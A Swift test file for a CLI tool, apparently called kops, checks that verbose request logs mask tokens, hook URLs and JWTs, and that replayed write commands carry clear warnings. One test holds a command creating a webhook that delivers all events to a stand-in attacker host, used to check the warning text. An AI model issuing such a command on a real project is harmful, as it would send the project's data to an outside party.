@testable import KopsHTTP
import KopsShell
import Testing
@testable import kops

/// What the launch itself reads and prints: `--var` values as their bytes arrived (probe29 P29-5) and the `--verbose`
/// request line (probe29 P29-11).
@Suite struct LaunchInputSafetyTests {
    /// A typed token or webhook secret searched for (`logs search EAA…`) was `<redacted>` in the echo, transcript and
    /// history, and printed in clear in the verbose request line's `?query=`.
    @Test(arguments: ["whsec_0123456789abcdef0123", "EAAGm0PX4ZCpsBAKZAZDtestTOKENabcdefghijklmnopqrstuv"])
    func theVerboseRequestLineRedactsATypedSecret(secret: String) {
        let exchange = HTTPExchange(
            method: "GET", url: "http://127.0.0.1:19553/platform/v1/log_search?query=\(secret)&limit=20",
            requestHeaders: ["X-API-Key: <redacted>"], status: 200, duration: 0.012, newConnection: true)
        let text = VerboseLog.text(exchange)
        #expect(!text.contains(secret), "\(text)")
        #expect(text.hasPrefix("> GET http://127.0.0.1:19553/platform/v1/log_search?query=<redacted>&limit=20\n"), "\(text)")
    }

    /// Probe33 P33-5, P33-6: a hook URL searched for is percent-encoded in the request's query, where the rule for hooks
    /// (which reads `://`) did not see it; a GitHub or Slack token was no token shape at all. Read decoded, each is
    /// masked as the transcript masks the typed line.
    @Test(arguments: [
        ("https%3A%2F%2Fhooks.slack.com%2Fservices%2FT0AB12CD3%2FB0EF45GH6%2FaBcDeFgHiJkLmNoPqRsTuVwX",
         "https%3A%2F%2Fhooks.slack.com%2Fservices%2FT0AB12CD3%2FB0EF45GH6%2F<redacted>", "aBcDeFgHiJkLmNoPqRsTuVwX"),
        ("https%3A%2F%2Fmaker.ifttt.com%2Ftrigger%2Fk%2Fwith%2Fkey%2FdQw4w9WgXcQaB3dE5gH7jK",
         "https%3A%2F%2Fmaker.ifttt.com%2Ftrigger%2Fk%2Fwith%2Fkey%2F<redacted>", "dQw4w9WgXcQaB3dE5gH7jK"),
        ("https%3A%2F%2Fdiscord.com%2Fapi%2Fwebhooks%2F123456789012345678%2FZx81kQp0LmN4vB7tR2yWq",
         "https%3A%2F%2Fdiscord.com%2Fapi%2Fwebhooks%2F123456789012345678%2F<redacted>", "Zx81kQp0LmN4vB7tR2yWq"),
        ("ghp_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789", "<redacted>", "AbCdEfGhIjKlMnOpQrStUvWxYz"),
        ("xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOpQrStUvWx", "<redacted>", "AbCdEfGhIjKlMnOpQrStUvWx"),
    ])
    func theVerboseRequestLineReadsTheQueryDecoded(query: String, shown: String, secret: String) {
        let exchange = HTTPExchange(
            method: "GET", url: "http://127.0.0.1:19553/platform/v1/log_search?query=\(query)&limit=20",
            requestHeaders: [], status: 200, duration: 0, newConnection: false)
        let text = VerboseLog.text(exchange)
        #expect(!text.contains(secret), "\(text)")
        #expect(text.hasPrefix("> GET http://127.0.0.1:19553/platform/v1/log_search?query=\(shown)&limit=20\n"), "\(text)")
    }

    /// The shell's redactor masks the verbose line: a secret typed with `--secret` (no token shape) and searched for
    /// later, as the transcript masks it; percent-encoded too.
    @Test func theVerboseRequestLineMasksWhatTheShellLearned() {
        var redactor = Redactor()
        redactor.learn(arguments: ["verify", "--secret", "my plain secret 2026"])
        let exchange = HTTPExchange(
            method: "GET", url: "http://127.0.0.1:19553/platform/v1/log_search?query=my%20plain%20secret%202026&limit=20",
            requestHeaders: [], status: 200, duration: 0, newConnection: false)
        // Without it (the redactor of P29-11's fix, which knew nothing), the value was shown.
        #expect(VerboseLog.text(exchange).contains("query=my%20plain%20secret%202026"))
        #expect(VerboseLog.text(exchange, redactor: redactor).hasPrefix(
            "> GET http://127.0.0.1:19553/platform/v1/log_search?query=<redacted>&limit=20\n"), "\(VerboseLog.text(exchange, redactor: redactor))")
    }

    /// Session 33: a JWT searched for is masked in the verbose request line, and a header line the transport did not
    /// mark secret is read by the redactor too: `Authorization` keeps its name, a JWT elsewhere is masked, the rest stays.
    @Test func theVerboseLogMasksAJWTInTheURLAndInHeaderLines() {
        let jwt = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJrYXBzby1yZWNlaXZlciIsImlhdCI6MTc2NDcyMDAwMH0.Qm9vLXNpZ25hdHVyZS1rYXBzbzIwMjZfX2FiY2RlZg"
        let exchange = HTTPExchange(
            method: "POST", url: "http://127.0.0.1:19553/hook?query=\(jwt)&limit=20",
            requestHeaders: ["Authorization: Bearer \(jwt)", "X-Forwarded-Assertion: \(jwt)", "X-Request-Id: req-2026-12-03"],
            status: 200, duration: 0, newConnection: false)
        let text = VerboseLog.text(exchange)
        #expect(!text.contains("eyJzdWIiOiJrYXBzby1yZWNlaXZlciIsImlhdCI6MTc2NDcyMDAwMH0"), "\(text)")
        #expect(!text.contains("Qm9vLXNpZ25hdHVyZS1rYXBzbzIwMjZfX2FiY2RlZg"), "\(text)")
        #expect(text.contains("> POST http://127.0.0.1:19553/hook?query=<redacted>&limit=20\n"), "\(text)")
        #expect(text.contains("> Authorization: <redacted>\n"), "\(text)")
        #expect(text.contains("> X-Forwarded-Assertion: <redacted>\n"), "\(text)")
        #expect(text.contains("> X-Request-Id: req-2026-12-03\n"), "\(text)")
    }

    @Test func aVerboseURLWithoutSecretsIsShownAsItIs() {
        let url = "http://127.0.0.1:19553/platform/v1/whatsapp/messages?phone_number_id=100200300400501&limit=20"
        let exchange = HTTPExchange(method: "GET", url: url, requestHeaders: [], status: 200, duration: 0, newConnection: false)
        #expect(VerboseLog.text(exchange).hasPrefix("> GET \(url)\n"))
    }

    @Test func aVarValueThatIsNotUTF8IsNamedWithItsByteAndColumn() {
        let bytes = { (text: String) in Array(text.utf8) }
        #expect(RawVariables.problem([bytes("--var"), bytes("x=Ol") + [0xE1] + bytes(" var"), bytes("-c"), bytes("set")])
            == "invalid --var x: its value holds the byte 0xE1 (column 3), which is not UTF-8 (typed or saved as Latin-1 or "
                + "Windows-1252?); nothing ran: pass it as UTF-8")
        #expect(RawVariables.problem([bytes("--var=greeting=") + [0x80]])?.hasPrefix("invalid --var greeting: its value holds the byte 0x80 (column 1)") == true)
        // UTF-8 values, a Latin-1 byte in another flag's value, and a NAME with no value are not this check's.
        #expect(RawVariables.problem([bytes("--var"), bytes("x=Olá"), bytes("-c"), bytes("reply Ol") + [0xE1]]) == nil)
        #expect(RawVariables.problem([bytes("--var"), bytes("x")]) == nil)
    }
}

/// probe29 P29-10: `kops check` of a received transcript cut the held-back `webhooks create --url …` in the middle of
/// its URL and advised `--allow-writes` "sends it again"; following it created a webhook to the sender's host.
@Suite struct HeldBackWebhookLineTests {
    static let sendAgain = "kops check t.md --allow-writes"

    @Test func aWriteThatNamesADeliveryURLIsShownWholeWithWhatSendingItDoes() {
        let command = "webhooks create --url https://collector.evil.example/in --events all --scope project"
        let line = ScriptLaunch.notReplayedWrite(command, redacted: nil, sendAgain: Self.sendAgain)
        #expect(line == "'\(command)' changes data; its recorded output is kept. 'kops check t.md --allow-writes' would create "
            + "a webhook that delivers to collector.evil.example (https://collector.evil.example/in; events all, scope project): "
            + "run it only if that host is yours")
        #expect(!line.contains("sends it again"))
        let update = ScriptLaunch.notReplayedWrite(
            "webhooks update 4e5f6a7b-8c9d-4e0f-9a1b-3c4d5e6f7a80 --url=https://x.example/h", redacted: nil, sendAgain: Self.sendAgain)
        #expect(update.contains("would change webhook 4e5f6a7b-8c9d-4e0f-9a1b-3c4d5e6f7a80 to deliver to x.example (https://x.example/h)"), "\(update)")
    }

    @Test func anotherWriteKeepsItsShortLine() {
        let line = ScriptLaunch.notReplayedWrite("webhooks delete 4e5f6a7b-8c9d-4e0f-9a1b-3c4d5e6f7a80", redacted: nil, sendAgain: Self.sendAgain)
        #expect(line.hasSuffix("changes data; its recorded output is kept ('kops check t.md --allow-writes' sends it again)"))
    }
}
